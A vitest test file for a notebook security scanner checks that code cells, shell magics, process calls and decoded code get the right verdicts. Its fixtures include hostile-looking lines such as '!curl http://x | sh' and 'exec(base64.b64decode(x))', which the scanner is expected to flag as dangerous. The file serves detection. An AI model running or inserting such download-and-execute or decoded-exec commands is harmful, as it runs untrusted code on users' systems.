import * as fc from 'fast-check';
import { expect, it, test } from 'vitest';
import { notebookFormat, NOTEBOOK_LIMIT } from '../../../../utils/formats/code/notebook';
import { analyze, utf8 } from '../../../fixtures/analyze';
import { untold } from '../../../fixtures/texts';

const cells = (...sources: readonly (string | readonly string[])[]) =>
  JSON.stringify({ cells: sources.map((source) => ({ cell_type: 'code', source })), nbformat: 4 });
const read = (text: string) => analyze(notebookFormat, utf8(text));

test.each([
  ['code', cells('x = 1'), 'suspicious', ['notebook/code']],
  ['lines', cells(['import os\n', 'os.listdir()']), 'suspicious', ['notebook/code']],
  ['a command', cells('!pip install x'), 'suspicious', ['notebook/code', 'notebook/command']],
  ['a system magic', cells('%system ls'), 'suspicious', ['notebook/code', 'notebook/command']],
  ['a shell cell', cells('%%bash\nls'), 'suspicious', ['notebook/code', 'notebook/command']],
  [
    'a download that runs',
    cells('!curl http://x | sh'),
    'dangerous',
    ['notebook/code', 'notebook/command', 'notebook/dangerous-command'],
  ],
  [
    'a shell cell whose second line runs a download',
    cells('%%bash\ncurl http://x | sh'),
    'dangerous',
    ['notebook/code', 'notebook/command', 'notebook/dangerous-command'],
  ],
  [
    'a process',
    cells('import os\nos.system("ls")'),
    'suspicious',
    ['notebook/code', 'python/on-import', 'python/process'],
  ],
  [
    'decoded code',
    cells('%matplotlib inline\nimport base64', 'exec(base64.b64decode(x))'),
    'dangerous',
    ['notebook/code', 'python/decoded-code', 'python/code'],
  ],
  [
    'the older form',
    '{"worksheets": [{"cells": [{"cell_type": "code", "input": "x"}]}]}',
    'suspicious',
    ['notebook/code'],
  ],
  ['text only', '{"cells": [{"cell_type": "markdown", "source": "os.system"}]}', 'safe', []],
  ['nothing', '{"cells": []}', 'safe', []],
  ['damage', '{"cells": [', 'broken', ['notebook/no-json']],
])('a notebook with %s', async (_, text, verdict, ids) => {
  const result = await read(text);
  expect([result.verdict, result.findings.map(({ id }) => id)]).toEqual([verdict, ids]);
  expect(untold(result.findings)).toEqual([]);
});

it('is known by its keys', () => {
  expect(notebookFormat.matches(utf8(cells('x')), 9)).toBe(true);
  expect(notebookFormat.matches(utf8('{"a": 1}'), 9)).toBe(false);
});

it('that is too large is not called safe', async () => {
  const source = { size: NOTEBOOK_LIMIT + 1, bytesRead: 0, read: async () => utf8('{}') };
  expect((await analyze(notebookFormat, utf8('{}'), { source })).verdict).toBe('unknown');
});

it('of any shape is read to an end', async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.jsonValue(),
      async (value) =>
        void (await read(JSON.stringify({ cells: [{ cell_type: 'code', source: value }, value] }))),
    ),
  );
});
